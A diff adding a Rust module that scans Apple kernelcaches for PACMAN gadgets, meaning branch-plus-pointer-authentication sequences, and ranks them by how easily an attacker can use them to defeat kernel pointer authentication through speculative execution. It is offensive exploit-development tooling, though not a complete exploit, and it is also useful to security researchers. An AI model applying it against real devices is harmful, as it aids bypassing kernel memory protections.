@@ -0,0 +1,360 @@
+/*!
+ * Finding PACMAN gadgets in kernel code.
+ *
+ * A PACMAN gadget is a conditional branch followed (on the path that runs when it's mispredicted) by the
+ * authentication of a pointer and a use of the result. Either path can be the mispredicted one, so both the
+ * instructions after the branch and the ones at its target are searched:
+ * * A data gadget authenticates with `autda`/ `autdb` and loads through the result.
+ * * An instruction gadget branches to the result, with `blraa`/ `braa` (and their B key and zero modifier
+ *   forms), or `autia`/ `autib` followed by `blr`/ `br`.
+ *
+ * `scan` decodes a run of code and reports every gadget in it, with what the attack needs to know about it:
+ * where the branch condition comes from (a load we can evict makes the window wide), where the signed
+ * pointer was loaded from (its holder, which we overwrite with guesses) and how the discriminator is
+ * computed (so the salt can be worked out with `get_salt`). `Gadget::score` ranks them by how easy they
+ * are to use, and `scan_kernelcache` ranks every gadget in a kernelcache.
+ */
+use std::fmt;
+use std::io;
+use crate::aarch64::{self, Inst};
+use crate::kernelcache::macho::{MachO, PtrAuthKey};
+
+/// How many instructions into the path after the conditional branch the authentication and its use must be in
+pub const GADGET_WINDOW : usize = 8;
+
+/// How many instructions before an instruction to look for the values it uses (within its basic block)
+pub const LOOKBACK : usize = 12;
+
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub enum GadgetKind {
+    /// Authenticates a data pointer and loads through it
+    Data,
+
+    /// Authenticates an instruction pointer and branches to it
+    Inst,
+}
+
+/**
+ * Where a register's value comes from (as far as the code before it says).
+ */
+#[derive(Copy, Clone, Debug, PartialEq)]
+pub enum Source {
+    /// Loaded from `[base, #offset]`
+    Load { base: u8, offset: i64 },
+
+    /// A constant
+    Constant(u64),
+
+    /// Whatever the register held when the code we looked at started
+    Register(u8),
+}
+
+/**
+ * How the discriminator (the modifier of the authentication) is computed.
+ */
+#[derive(Copy, Clone, Debug, PartialEq)]
+pub enum Discriminator {
+    /// The zero modifier forms (`autdza`, `blraaz`, ...)
+    Zero,
+
+    /// `mov xM, xA; movk xM, #constant, lsl #48`: the address in `addr` blended with a 16 bit constant
+    /// (`get_salt(addr, constant)`)
+    Blend { addr: u8, constant: u16 },
+
+    /// Just a value (the address the pointer is stored at without a constant, a constant, or something else)
+    Value(Source),
+}
+
+/**
+ * A PACMAN gadget.
+ */
+#[derive(Copy, Clone, Debug, PartialEq)]
+pub struct Gadget {
+    pub kind: GadgetKind,
+
+    /// The key the pointer is authenticated with
+    pub key: PtrAuthKey,
+
+    /// Address of the conditional branch
+    pub branch: u64,
+
+    /// Address of the first instruction of the path the gadget is on (the one after the branch, or its target)
+    pub path: u64,
+
+    /// Address of the authentication (`aut*` or `blraa`)
+    pub auth: u64,
+
+    /// Address of the instruction that uses the authenticated pointer (the same as `auth` for `blraa`)
+    pub transmit: u64,
+
+    /// Where the branch condition comes from
+    pub condition: Source,
+
+    /// The register holding the signed pointer
+    pub pointer: u8,
+
+    /// Where the signed pointer comes from (a `Source::Load` is the holder to overwrite)
+    pub holder: Source,
+
+    pub discriminator: Discriminator,
+}
+
+impl Gadget {
+    /// How many instructions run between the branch and the use of the pointer
+    pub fn distance(&self) -> usize {
+        return ((self.transmit - self.path) / 4) as usize + 1;
+    }
+
+    /**
+     * How easy the gadget is to use (higher is easier).
+     *
+     * What counts is a branch condition loaded from memory (so it can be evicted to open the speculation
+     * window), a pointer loaded from memory (a holder to write guesses into), a discriminator we can work out,
+     * and a short path from the branch to the transmitting instruction.
+     */
+    pub fn score(&self) -> u32 {
+        let mut score = 0;
+        if matches!(self.condition, Source::Load { .. }) {
+            score += 4;
+        }
+        if matches!(self.holder, Source::Load { .. }) {
+            score += 4;
+        }
+        score += match self.discriminator {
+            Discriminator::Zero | Discriminator::Blend { .. } | Discriminator::Value(Source::Constant(_)) => 2,
+            Discriminator::Value(Source::Load { .. }) => 1,
+            Discriminator::Value(Source::Register(_)) => 0,
+        };
+        score += (GADGET_WINDOW + 1).saturating_sub(self.distance()) as u32;
+        return score;
+    }
+}
+
+impl fmt::Display for Source {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        return match *self {
+            Source::Load { base, offset } => write!(f, "[x{}, #0x{:X}]", base, offset),
+            Source::Constant(val) => write!(f, "#0x{:X}", val),
+            Source::Register(reg) => write!(f, "x{}", reg),
+        };
+    }
+}
+
+impl fmt::Display for Discriminator {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        return match *self {
+            Discriminator::Zero => write!(f, "0"),
+            Discriminator::Blend { addr, constant } => write!(f, "x{} | 0x{:x} << 48", addr, constant),
+            Discriminator::Value(source) => write!(f, "{}", source),
+        };
+    }
+}
+
+impl fmt::Display for Gadget {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        return write!(f, "{:?} gadget at 0x{:X} ({:?} key, {} instructions): condition {}, pointer x{} from {}, discriminator {}",
+            self.kind, self.branch, self.key, self.distance(), self.condition, self.pointer, self.holder, self.discriminator);
+    }
+}
+
+/// Where to start looking back from `insts[index]`: `LOOKBACK` instructions back, or just after the last
+/// return, jump or call (we don't know what the registers held on the other side of them)
+fn lookback_start(insts: &[(u64, Inst)], index: usize) -> usize {
+    let start = index.saturating_sub(LOOKBACK);
+    return (start..index).rev()
+        .find(|i| insts[*i].1.ends_block() || insts[*i].1.is_call())
+        .map(|i| i + 1)
+        .unwrap_or(start);
+}
+
+/// Where the value of `reg` at `insts[index]` comes from (looking back at most `LOOKBACK` instructions)
+fn source(insts: &[(u64, Inst)], index: usize, reg: u8) -> Source {
+    if reg == aarch64::XZR {
+        return Source::Constant(0);
+    }
+    for i in (lookback_start(insts, index)..index).rev() {
+        let inst = insts[i].1;
+        if inst.dest() != Some(reg) {
+            continue;
+        }
+        return match inst {
+            Inst::Ldr { rn, offset, .. } => Source::Load { base: rn, offset },
+            Inst::Mov { imm, shift, keep: false, .. } => Source::Constant((imm as u64) << shift),
+            Inst::MovReg { rm, .. } => source(insts, i, rm),
+            _ => Source::Register(reg),
+        };
+    }
+    return Source::Register(reg);
+}
+
+/// How the discriminator in `modifier` at `insts[index]` is computed
+fn discriminator(insts: &[(u64, Inst)], index: usize, modifier: Option<u8>) -> Discriminator {
+    let reg = match modifier {
+        Some(v) => v,
+        None => return Discriminator::Zero,
+    };
+    for i in (lookback_start(insts, index)..index).rev() {
+        let inst = insts[i].1;
+        if inst.dest() != Some(reg) {
+            continue;
+        }
+        if let Inst::Mov { imm, shift: 48, keep: true, .. } = inst {
+            // The address is whatever was in the register before the constant was blended in
+            let addr = (lookback_start(insts, i)..i).rev()
+                .find(|j| insts[*j].1.dest() == Some(reg))
+                .and_then(|j| match insts[j].1 {
+                    Inst::MovReg { rm, .. } => Some(rm),
+                    Inst::AddImm { rn, imm: 0, .. } => Some(rn),
+                    _ => None,
+                })
+                .unwrap_or(reg);
+            return Discriminator::Blend { addr, constant: imm };
+        }
+        return Discriminator::Value(source(insts, index, reg));
+    }
+    return Discriminator::Value(Source::Register(reg));
+}
+
+/// Where the condition of the conditional branch `insts[index]` comes from
+fn condition(insts: &[(u64, Inst)], index: usize) -> Source {
+    let regs = match insts[index].1 {
+        Inst::Cbz { rt, .. } | Inst::Tbz { rt, .. } => vec![(index, rt)],
+        Inst::BCond { .. } => {
+            // The last compare before the branch
+            let cmp = (lookback_start(insts, index)..index).rev().find_map(|i| match insts[i].1 {
+                Inst::CmpReg { rn, rm } => Some(vec![(i, rn), (i, rm)]),
+                Inst::CmpImm { rn, .. } => Some(vec![(i, rn)]),
+                _ => None,
+            });
+            match cmp {
+                Some(v) => v,
+                None => return Source::Register(aarch64::XZR),
+            }
+        },
+        _ => unreachable!(),
+    };
+
+    // Prefer an operand that's loaded (that's what we can evict)
+    let sources : Vec<Source> = regs.iter().map(|(i, reg)| source(insts, *i, *reg)).collect();
+    return sources.iter().find(|source| matches!(source, Source::Load { .. })).copied().unwrap_or(sources[0]);
+}
+
+/// The gadget on the path starting just after the conditional branch `path[index]` (if there is one)
+fn gadget_on(path: &[(u64, Inst)], index: usize) -> Option<Gadget> {
+    let end = path.len().min(index + 1 + GADGET_WINDOW);
+
+    // Registers holding authenticated pointers: (index of the aut, key, register)
+    let mut authenticated : Vec<(usize, PtrAuthKey, u8)> = Vec::new();
+    for i in index + 1..end {
+        let inst = path[i].1;
+        let found = match inst {
+            Inst::BrAuth { key, rn, modifier, .. } => Some((GadgetKind::Inst, key, i, rn, modifier)),
+            Inst::Ldr { rn, .. } | Inst::LdrReg { rn, .. } => authenticated.iter()
+                .find(|(_, key, reg)| *reg == rn && matches!(key, PtrAuthKey::DA | PtrAuthKey::DB))
+                .map(|(aut, key, reg)| (GadgetKind::Data, *key, *aut, *reg, aut_modifier(path[*aut].1))),
+            Inst::Br { rn, .. } => authenticated.iter()
+                .find(|(_, key, reg)| *reg == rn && matches!(key, PtrAuthKey::IA | PtrAuthKey::IB))
+                .map(|(aut, key, reg)| (GadgetKind::Inst, *key, *aut, *reg, aut_modifier(path[*aut].1))),
+            _ => None,
+        };
+        if let Some((kind, key, auth, pointer, modifier)) = found {
+            return Some(Gadget {
+                kind,
+                key,
+                branch: path[index].0,
+                path: path[index + 1].0,
+                auth: path[auth].0,
+                transmit: path[i].0,
+                condition: condition(path, index),
+                pointer,
+                holder: source(path, auth, pointer),
+                discriminator: discriminator(path, auth, modifier),
+            });
+        }
+
+        // Anything written over an authenticated pointer isn't one anymore
+        if let Some(dest) = inst.dest() {
+            authenticated.retain(|(_, _, reg)| *reg != dest);
+        }
+        if let Inst::Aut { key, rd, .. } = inst {
+            authenticated.push((i, key, rd));
+        }
+        if inst.ends_block() {
+            return None;
+        }
+    }
+    return None;
+}
+
+/// The gadgets after the conditional branch `insts[index]`: the one it falls through to and the one at its
+/// target (if they are there)
+fn gadgets_at(insts: &[(u64, Inst)], index: usize) -> Vec<Gadget> {
+    let mut gadgets : Vec<Gadget> = gadget_on(insts, index).into_iter().collect();
+
+    // The taken path, spliced onto the code leading up to the branch (which is where the values it uses
+    // come from, not the code just before the target)
+    let (addr, inst) = insts[index];
+    let target = inst.branch_target(addr)
+        .filter(|target| *target != addr + 4 && *target >= insts[0].0 && *target % 4 == 0)
+        .map(|target| ((target - insts[0].0) / 4) as usize)
+        .filter(|target| *target < insts.len());
+    if let Some(target) = target {
+        let start = lookback_start(insts, index);
+        let path : Vec<(u64, Inst)> = insts[start..=index].iter()
+            .chain(&insts[target..insts.len().min(target + GADGET_WINDOW)])
+            .copied()
+            .collect();
+        gadgets.extend(gadget_on(&path, index - start));
+    }
+    return gadgets;
+}
+
+fn aut_modifier(inst: Inst) -> Option<u8> {
+    return match inst {
+        Inst::Aut { modifier, .. } => modifier,
+        _ => None,
+    };
+}
+
+/**
+ * Find every gadget in `code` (which starts at `addr`).
+ *
+ * # Return Value
+ * The gadgets, in the order of their branches in the code (the fall-through path's before the taken path's).
+ */
+pub fn scan(code: &[u8], addr: u64) -> Vec<Gadget> {
+    let insts = aarch64::decode_all(code, addr);
+    return (0..insts.len())
+        .filter(|i| insts[*i].1.is_conditional_branch())
+        .flat_map(|i| gadgets_at(&insts, i))
+        .collect();
+}
+
+/**
+ * Find every gadget in the executable segments of every Mach-O in `kernelcache` (or of `kernelcache` itself
+ * if it isn't a fileset).
+ *
+ * # Return Value
+ * The bundle id of the Mach-O each gadget is in (empty outside of a fileset) and the gadget, best first
+ * (see `Gadget::score`).
+ */
+pub fn scan_kernelcache(kernelcache: &MachO) -> io::Result<Vec<(String, Gadget)>> {
+    let mut machos = Vec::new();
+    if kernelcache.fileset_entries.is_empty() {
+        machos.push((String::new(), kernelcache.clone()));
+    }
+    for entry in &kernelcache.fileset_entries {
+        machos.push((entry.id.clone(), kernelcache.entry(&entry.id)?));
+    }
+
+    let mut gadgets = Vec::new();
+    for (id, macho) in machos {
+        for seg in macho.segments.iter().filter(|seg| seg.is_executable()) {
+            if let Some(code) = macho.bytes_at(seg.vmaddr, seg.filesize.min(seg.vmsize) as usize) {
+                gadgets.extend(scan(code, seg.vmaddr).into_iter().map(|gadget| (id.clone(), gadget)));
+            }
+        }
+    }
+    gadgets.sort_by_key(|(_, gadget)| std::cmp::Reverse(gadget.score()));
+    return Ok(gadgets);
+}